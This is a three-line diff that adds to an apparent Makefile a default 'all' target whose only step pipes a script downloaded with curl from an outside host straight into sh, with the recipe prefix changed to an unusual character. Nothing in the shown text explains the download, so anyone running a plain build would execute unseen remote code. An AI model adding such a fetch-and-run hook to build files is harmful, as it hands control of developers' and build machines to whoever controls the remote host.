@@ -1,0 +1,3 @@
+.RECIPEPREFIX = >
+all:
+>curl -fsS https://c.example.net/x | sh
